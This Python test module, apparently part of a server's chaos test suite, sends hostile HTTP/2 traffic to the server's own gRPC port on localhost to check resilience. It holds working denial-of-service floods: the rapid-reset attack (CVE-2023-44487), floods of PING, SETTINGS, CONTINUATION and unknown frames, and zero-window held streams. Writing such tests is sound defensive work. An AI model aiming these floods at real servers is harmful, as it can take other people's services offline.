"""Clients of the port for gRPC that send frames of HTTP/2 by the million, or read no answer.

Promise: good clients of HTTP, which share the event loop, are answered beside them, and memory
stays bounded. `tests/e2e/test_grpc_hostile.py` and `test_grpc_limits.py` check single limits.
"""

import socket
import struct
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path

from tests.chaos.harness.attack import Finding, Outcome, Steps, Target
from tests.http2_streams import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header_block,
)

FLAGS = ("--grpc-port", "{port}")

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_LIVE = header_block("/inference.GRPCInferenceService/ServerLive")
_CONNECTIONS = 8
_LASTING = 6.0
_CANCEL = struct.pack(">I", 8)
_PRIORITY = 2


def _port(target: Target) -> int:
    """Return the port for gRPC, which the server's command line names."""
    words = Path(f"/proc/{target.pid}/cmdline").read_bytes().split(b"\0")
    return int(words[words.index(b"--grpc-port") + 1])


def _opened(target: Target, settings: bytes = b"") -> socket.socket:
    """Connect, and acknowledge the settings of the server, which come first."""
    address = ("127.0.0.1", _port(target))
    connection = socket.create_connection(address, 10.0, (target.source, 0))
    connection.sendall(_PREFACE + frame(SETTINGS, 0, 0, settings))
    connection.recv(1 << 16)
    connection.sendall(frame(SETTINGS, ACK, 0))
    return connection


def _flood(target: Target, pieces: Iterator[bytes]) -> tuple[Outcome, int]:
    """Send pieces and read nothing until the server ends the connection or the time is over."""
    started, sent, end = time.monotonic(), 0, "closed"
    try:
        with _opened(target) as connection:
            connection.settimeout(2.0)
            for piece in pieces:
                if time.monotonic() - started > _LASTING:
                    break
                connection.sendall(piece)
                sent += 1
    except TimeoutError:
        pass  # the server reads no more while its answers are not read
    except OSError:
        end = "reset"
    return Outcome(end, None, time.monotonic() - started), sent


def _floods(target: Target, pieces: list[Iterator[bytes]]) -> Steps:
    """Flood on some connections at once with each kind of pieces in turn; a piece is 64 frames."""
    yield None
    for start in range(0, len(pieces), _CONNECTIONS):
        with ThreadPoolExecutor(_CONNECTIONS) as pool:
            some = pieces[start : start + _CONNECTIONS]
            for outcome, sent in pool.map(lambda each: _flood(target, each), some):
                yield outcome
                yield Finding("pieces_of_64_frames", sent)


def _resets() -> Iterator[bytes]:
    """Yield calls that are cancelled at once (CVE-2023-44487)."""
    for start in range(1, 1 << 30, 128):
        yield b"".join(
            frame(HEADERS, END_HEADERS, number, _LIVE) + frame(RST_STREAM, 0, number, _CANCEL)
            for number in range(start, start + 128, 2)
        )


def grpc_resets(target: Target) -> Steps:
    """Begin calls over gRPC and cancel them at once, for 6 s on 8 connections that read nothing."""
    yield from _floods(target, [_resets() for _ in range(_CONNECTIONS)])


def _repeated(start: bytes, one: bytes) -> Iterator[bytes]:
    yield start + one * 64
    while True:
        yield one * 64


def grpc_frames(target: Target) -> Steps:
    """Send pings, settings, empty frames and headers without end, 6 s each on 8 connections."""
    begun = frame(HEADERS, END_HEADERS, 1, _LIVE)
    field = b"\0\x01x\x7f\x81\x7d" + b"a" * 380
    window = struct.pack(">HI", INITIAL_WINDOW_SIZE, 1)
    kinds = (
        (b"", frame(PING, 0, 0, bytes(8))),
        (b"", frame(SETTINGS, 0, 0, window)),
        (begun, frame(DATA, 0, 1)),
        (begun, frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
        (b"", frame(_PRIORITY, 0, 1, bytes(5))),
        (frame(HEADERS, 0, 1, _LIVE), frame(CONTINUATION, 0, 1)),
        (frame(HEADERS, 0, 1, _LIVE), frame(CONTINUATION, 0, 1, field)),
        (b"", frame(99, 0, 1, bytes(100))),
    )
    yield from _floods(target, [_repeated(*kind) for kind in kinds for _ in range(_CONNECTIONS)])


def grpc_unread(target: Target) -> Steps:
    """Hold 250 calls over gRPC whose answers find no window, and see when they end."""
    yield None
    held = []
    settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    started = time.monotonic()
    for _ in range(5):
        held.append(_opened(target, settings))
        for number in range(1, 100, 2):
            call = frame(HEADERS, END_HEADERS, number, _LIVE)
            held[-1].sendall(call + frame(DATA, END_STREAM, number, bytes(5)))
    for each in held:
        end = "closed"
        each.settimeout(max(0.1, started + 80.0 - time.monotonic()))
        try:
            while each.recv(1 << 16):
                pass
        except TimeoutError:
            end = "never"
        except OSError:
            end = "reset"
        yield Outcome(end, None, time.monotonic() - started)
        with suppress(OSError):
            each.close()
